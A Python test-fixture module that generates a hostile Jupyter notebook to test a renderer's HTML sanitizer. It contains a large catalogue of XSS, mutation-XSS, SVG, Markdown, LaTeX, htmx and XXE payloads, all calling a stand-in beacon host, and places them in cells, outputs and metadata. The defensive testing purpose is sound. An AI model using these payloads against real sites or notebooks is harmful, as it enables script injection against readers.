"""Notebooks that attack their reader: every payload, in every place that a notebook has.

Each payload calls `beacon`, an address that must never be asked for. The unit tests look at the HTML, the
browser tests count the calls.
"""

# ruff: noqa: E501  a payload is one line

import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any

BEACON = "https://beacon.invalid/hit"


def payloads(beacon: str = BEACON) -> list[str]:
    """HTML that would run, load or send something."""
    js = f"new Image().src='{beacon}?js'"
    eaten = b64encode(f"<script>{js}</script>".encode()).decode()
    return [
        f"<script>{js}</script>",
        f"<script src='{beacon}'></script>",
        f"<ScRiPt\n>{js}</sCrIpT\t>",
        f"<scr<script>ipt>{js}</scr</script>ipt>",
        f'<img src=x onerror="{js}">',
        f"<img src=x onerror={js.replace(' ', '/**/')}//",
        f"<img/src='x'/onerror='{js.replace(chr(39), chr(34))}'>",
        f"<img src='{beacon}?img'>",
        f"<img srcset='{beacon}?srcset 1x'>",
        "<img src='//beacon.invalid/hit?scheme'>",
        "<img src='/\\beacon.invalid/hit'>",
        f"<img src='  \t{beacon}?blank'>",
        f"<picture><source srcset='{beacon}?picture'><img src=x></picture>",
        f"<body onload=\"{js}\" background='{beacon}?bg'>",
        f'<svg onload="{js}"><script>{js}</script></svg>',
        f'<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
        f"<svg><set attributeName=href to='javascript:{js}'/><a><text>x</text></a></svg>",
        f'<svg><a xlink:href="javascript:{js}"><text y=20>click</text></a></svg>',
        f"<svg><use href='{beacon}?use#x'/><image href='{beacon}?image'/></svg>",
        f'<svg><use href="data:image/svg+xml;base64,{eaten}#x"/></svg>',
        f"<svg><foreignObject><iframe src='{beacon}?fo'></iframe><body onload=\"{js}\"></foreignObject></svg>",
        f"<svg><style>@import '{beacon}?svgcss';</style></svg>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
        f"<math><a xlink:href=\"javascript:{js}\">x</a><maction actiontype='statusline#{beacon}'>y</maction></math>",
        f'<math href="javascript:{js}">click</math>',
        f'<noscript><p title="</noscript><img src=x onerror={js}>">',
        f'<template><img src=x onerror="{js}"></template>',
        f'<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
        f'<textarea><p title="</textarea><img src=x onerror={js}>"></textarea>',
        f'<title><p title="</title><img src=x onerror={js}>"></title>',
        f'<style><img src="</style><img src=x onerror={js}>">',
        f"<style>@import url({beacon}?css); body{{background:url({beacon}?body)}}</style>",
        f"<link rel=stylesheet href='{beacon}?link'>",
        f"<link rel=prefetch href='{beacon}?prefetch'><link rel=preconnect href='{beacon}'>",
        f'<p style="background:url({beacon}?style)">x</p>',
        "<p style='position:fixed;inset:0;z-index:9999'>over the page</p>",
        "<div class='notice ok top badge frozen error-name'>imitating the page</div>",
        f'<meta http-equiv=refresh content="0;url={beacon}?refresh">',
        f"<base href='{beacon}'>",
        f"<form action='{beacon}' id=search><input name=q autofocus onfocus=\"{js}\"><button formaction='{beacon}'>x</button></form>",
        f"<button form=logout formaction='{beacon}' type=submit>x</button>",
        f"<input type=image src='{beacon}?input' onerror=\"{js}\">",
        f"<iframe src='{beacon}?iframe'></iframe>",
        f'<iframe srcdoc="<script>{js}</script>"></iframe>',
        f'<iframe src="javascript:{js}"></iframe>',
        f"<frameset><frame src='{beacon}?frame'></frameset>",
        f"<object data='{beacon}?object'></object><embed src='{beacon}?embed'>",
        f'<object data="data:text/html;base64,{eaten}"></object>',
        f"<applet code='{beacon}'></applet>",
        f"<video src='{beacon}?video' poster='{beacon}?poster' onerror=\"{js}\"></video>",
        f"<audio src='{beacon}?audio' autoplay onerror=\"{js}\"></audio><track src='{beacon}?track'>",
        f'<details open ontoggle="{js}"><summary>x</summary></details>',
        f'<marquee onstart="{js}">x</marquee>',
        f"<table background='{beacon}?table'><tr><td background='{beacon}?td'>x</td></tr></table>",
        f'<a href="javascript:{js}">click</a>',
        f'<a href="JaVaScRiPt:{js}">click</a>',
        f'<a href="java&#x09;script:{js}">click</a>',
        f'<a href="&#1;javascript:{js}">click</a>',
        f'<a href="java\nscript:{js}">click</a>',
        f'<a href="vbscript:{js}">click</a>',
        f'<a href="data:text/html;base64,{eaten}">click</a>',
        f"<a href='https://example.org' ping='{beacon}?ping' target=_blank>click</a>",
        '<a href="blob:https://example.org/x">click</a>',
        f"<q cite='{beacon}?cite'>x</q><blockquote cite=\"javascript:{js}\">x</blockquote>",
        f"<div hx-get='{beacon}?hx' hx-trigger=load data-hx-get='{beacon}?dhx' data-hx-trigger=load>x</div>",
        f'<div hx-on:click="{js}" hx-on--load="{js}" data-hx-on-load="{js}">x</div>',
        f"<div hx-ext=x hx-vals=\"js:{js}\" hx-headers='js:{{}}'>x</div>",
        "<img id=csrfmiddlewaretoken name=cookie><form id=main name=body></form><a id=main name=main>x</a>",
        f'<p tabindex=1 contenteditable accesskey=s autofocus onfocus="{js}">x</p>',
        "<p is=x-y slot=s part=p popover popovertarget=x nonce=y>x</p>",
        f'<isindex action="javascript:{js}" type=image>',
        f"<!--[if gte IE 4]><script>{js}</script><![endif]--><![CDATA[<script>{js}</script>]]>",
        f"<!--><img src=x onerror={js}>-->",
        f"<?xml-stylesheet href='{beacon}?pi'?>",
        f"\x00<scr\x00ipt>{js}</script>",
        f"\x02a{'0' * 64}\x03\x02wfrozen\x03&#2;l{beacon}&#3;&#x02;[S&#x0003;",
        f"<img src=\"\x02l{beacon}\x03\"><a href='\x02h&quot; onclick={js} x=\x03'>y</a>",
        f'<img src="&#2;a{"0" * 64}&#3; onerror={js}">',
        f"</pre></div></section></main><script>{js}</script>",
        f'--></style></script></title></textarea><img src=x onerror="{js}">',
        f'<select><style></select><img src=x onerror="{js}"></style>',
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{js}">',
        f"<a id=\"x\" href='#' title='&quot;&gt;&lt;img src=x onerror={js}&gt;'>x</a>",
    ]


def markdown_payloads(beacon: str = BEACON) -> list[str]:
    """What Markdown adds of its own."""
    js = f"new Image().src='{beacon}?md'"
    return [
        f"[click](javascript:{js})",
        f"[click](<javascript:{js}>)",
        f"[click](JaVaScRiPt&colon;{js})",
        f"[click](javascript&#58;{js})",
        f"[click](data:text/html,<script>{js}</script>)",
        f"[ref]\n\n[ref]: javascript:{js}",
        f"<javascript:{js}>",
        f"![img]({beacon}?mdimg)",
        f'![img](data:image/svg+xml,<svg/onload="{js}">)',
        "![img](attachment:evil.svg)",
        f"[![img]({beacon}?nested)](javascript:{js})",
        f'![a" onerror="{js}](x "b\' onerror=\'{js}")',
        f'[a](x "&quot; onclick=&quot;{js}")',
        f"```<img src=x onerror={js}>\ncode\n```",
        f'```"><img src=x onerror={js}>\ncode\n```',
        f'# <img src=x onerror={js}>\n\n## "onclick="{js}',
        f'| <img src=x onerror={js}> |\n|:--" onclick={js}|\n| x |',
        f"$\\href{{javascript:{js}}}{{x}}$",
        f"$\\text{{<img src=x onerror={js}>}}$",
        f"$$\\style{{background:url({beacon})}}{{x}}\\class{{notice}}{{y}}$$",
        f"$\\unicode{{<script>{js}</script>}}$",
        f"\\begin{{align}}<script>{js}</script>&\\text{{</mtext><script>{js}</script>}}\\end{{align}}",
        f'$\\color{{red" onclick="{js}}}{{x}}$',
        f"- [x] <img src=x onerror={js}>",
        f'{beacon}?auto" onmouseover="{js}',
    ]


def svg_payloads(beacon: str = BEACON) -> list[str]:
    """Drawings by themselves."""
    js = f"new Image().src='{beacon}?svg'"
    head = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return [
        f'{head} onload="{js}"><script>{js}</script><rect width="9" height="9" onclick="{js}"/></svg>',
        f"{head}><image href='{beacon}?image'/><use xlink:href='{beacon}?use#x'/><feImage href='{beacon}?fe'/></svg>",
        f"{head}><style>@import url({beacon}?css); rect{{fill:url({beacon}?fill#x)}}</style><rect/></svg>",
        f"{head}><rect style='fill:url({beacon}?attr#x)' fill='url({beacon}?f)'/></svg>",
        f"{head}><a href=\"javascript:{js}\"><text>x</text></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></body></foreignObject></svg>",
        f"{head}><animate attributeName='href' values='javascript:{js}'/><set attributeName='onload' to='{js}'/></svg>",
        f"<?xml version='1.0'?><?xml-stylesheet href='{beacon}?pi'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{beacon}?xxe'>]>{head}><text>&x;</text></svg>",
        f"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>]>{head}><text>&b;</text></svg>",
        f"{head}><image href='data:image/svg+xml;base64,{b64encode(b'<svg/>').decode()}'/></svg>",
        f"{head} xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{js}</h:script><h:img src='{beacon}?h'/></svg>",
    ]


def hostile_cells(beacon: str = BEACON) -> Iterator[dict[str, Any]]:
    """Cells as JSON: every payload in every kind of cell, output and metadata."""
    html = payloads(beacon)
    for payload in html:
        yield _markdown(f"text {payload} text")
        yield _markdown(f"{payload}\n\n- {payload}\n\n| a |\n|---|\n| {payload} |\n\n> {payload}")
        yield _markdown(f"```{payload}\n{payload}\n```\n\n`{payload}` $ {payload} $ $$ {payload} $$")
        yield _code(payload, _everywhere(payload))
        yield {"cell_type": "raw", "source": payload, "metadata": {"format": payload}}
    for payload in markdown_payloads(beacon):
        yield _markdown(payload, attachments={"evil.svg": {"image/svg+xml": svg_payloads(beacon)[0]}})
        yield _code("md", [_display({"text/markdown": payload}), _display({"text/latex": payload})])
    for payload in svg_payloads(beacon):
        yield _code("svg", [_display({"image/svg+xml": payload})])
        data = b64encode(payload.encode()).decode()
        yield _markdown(
            f"![x](data:image/svg+xml;base64,{data})\n\n<img src='data:image/svg+xml;base64,{data}'>\n\n![a](attachment:a.svg)",
            attachments={"a.svg": {"image/svg+xml": data}},
        )
    yield _with_metadata(html)


def hostile_notebook(beacon: str = BEACON) -> bytes:
    title = (
        f"# <img src='{beacon}?title' onerror=\"new Image().src='{beacon}?t'\"> </title><script>1</script>"
    )
    evil = f"\"><script>new Image().src='{beacon}?meta'</script>"
    metadata = {
        "kernelspec": {"display_name": evil, "language": evil, "name": evil},
        "language_info": {"name": "python"},
        "title": evil,
        "lc_notebook_meme": {"current": evil},
        "authors": [{"name": evil}],
    }
    document = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": metadata,
        "cells": [_markdown(title), *hostile_cells(beacon)],
    }
    return json.dumps(document).encode()


def _markdown(source: str, **fields: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **fields}


def _code(source: str, outputs: list[dict[str, Any]]) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": source, "execution_count": 1, "outputs": outputs}


def _display(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def _everywhere(payload: str) -> list[dict[str, Any]]:
    """A payload in every kind of output."""
    return [
        {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{payload}\x1b[0m\r{payload}\n"},
        {"output_type": "stream", "name": "stderr", "text": f"{payload}\n" * 60},
        {
            "output_type": "error",
            "ename": payload,
            "evalue": payload,
            "traceback": [f"\x1b]8;;{payload}\x07", payload],
        },
        {"output_type": payload, "data": {payload: payload}},
        _display({"text/html": payload}),
        _display({"text/html": [payload, payload], "text/plain": payload}),
        _display({"text/html": f"<table><tr><td>{payload}</td></tr></table>"}),
        _display({"text/plain": payload}),
        _display({"text/markdown": payload}),
        _display({"text/latex": payload}),
        _display({"application/javascript": payload}),
        _display({"application/json": {payload: [payload, {"x": payload}]}}),
        _display({"application/vnd.plotly.v1+json": {"data": payload}, "text/plain": payload}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": payload}}),
        _display({"application/geo+json": payload}),
        _display({payload: payload, "application/x-unknown": payload}),
        _display({"image/png": payload, "image/svg+xml": payload}),
        _display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{payload}</svg>"}),
        _display(
            {"image/png": b64encode(b"\x89PNG\r\n\x1a\n" + payload.encode()).decode(), "text/plain": payload},
            **{"image/png": {"width": payload, "height": payload}},
        ),
    ]


def _with_metadata(html: list[str]) -> dict[str, Any]:
    cell = _code("metadata", [])
    cell["id"] = html[0]
    cell["metadata"] = {
        "tags": html,
        "lc_cell_meme": {"current": html[0], "execution_end_time": html[1]},
        "jupyter": {"source_hidden": True, "outputs_hidden": True},
        "run_through_control": {"frozen": True, "read_only": True},
        "pinned_outputs": [{"execution_count": 1, "outputs": _everywhere(payload)} for payload in html[:5]],
    }
    return cell
